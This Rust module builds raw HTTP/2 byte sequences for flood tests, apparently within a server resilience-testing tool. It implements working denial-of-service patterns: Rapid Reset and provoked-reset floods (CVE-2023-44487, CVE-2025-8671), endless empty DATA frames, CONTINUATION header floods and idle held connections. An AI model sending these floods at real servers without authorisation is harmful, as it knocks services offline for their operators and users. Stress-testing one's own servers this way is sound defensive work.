//! HTTP/2 frames as bytes, for what no HTTP/2 library would send (RFC 9113 §4.1, RFC 7541).

use super::{Flood, Means, Reads};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

fn opening() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// A request for this path with a bearer key, without indexing.
fn request_block(key: &str, path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    let mut literal = |name: u8, value: &[u8]| {
        block.extend_from_slice(if name < 15 { &[][..] } else { &[0x0f] });
        block.push(if name < 15 { name } else { name - 15 });
        block.push(u8::try_from(value.len()).expect("a short value"));
        block.extend_from_slice(value);
    };
    literal(4, path.as_bytes());
    literal(1, b"x");
    literal(23, format!("Bearer {key}").as_bytes());
    block
}

/// A request on this stream and its reset; where it is `provoked`, one that the server has to send.
pub(super) fn reset_stream(stream: u32, block: &[u8], provoked: bool) -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    bytes.extend(if provoked {
        // More than a window can hold is an error of its stream alone (RFC 9113 §6.9.1).
        frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())
    } else {
        frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
    });
    bytes
}

/// Requests with this key, each reset at once: by their client (CVE-2023-44487), or through its fault (CVE-2025-8671).
pub(crate) fn resets(key: &str, provoked: bool, per_second: u32) -> Means {
    Means::Flood {
        opening: opening(),
        flood: Flood::Resets {
            block: request_block(key, "/"),
            provoked,
        },
        per_second,
    }
}

/// A body of nothing without end (RUSTSEC-2026-0258).
pub(crate) fn empty_data(key: &str, per_second: u32) -> Means {
    let mut begun = opening();
    begun.extend(frame(HEADERS, END_HEADERS, 1, &request_block(key, "/swallow")));
    Means::Flood {
        opening: begun,
        flood: Flood::Bytes(frame(DATA, 0, 1, &[]).repeat(256)),
        per_second,
    }
}

/// A head that never ends (RUSTSEC-2024-0332).
pub(crate) fn continuations(key: &str, per_second: u32) -> Means {
    let mut begun = opening();
    begun.extend(frame(HEADERS, END_STREAM, 1, &request_block(key, "/")));
    // Fields of one byte each, named by index: little to send, much to hold.
    let field = [0x0f, 0x0d, 0x01, b'a'].repeat(1024);
    Means::Flood {
        opening: begun,
        flood: Flood::Bytes(frame(CONTINUATION, 0, 1, &field)),
        per_second,
    }
}

/// A connection that is opened and then idle.
pub(crate) fn idle_http2() -> Means {
    Means::Hold {
        opening: opening(),
        drip: Vec::new(),
        every_ms: 0,
        reads: Reads::Awaited,
    }
}
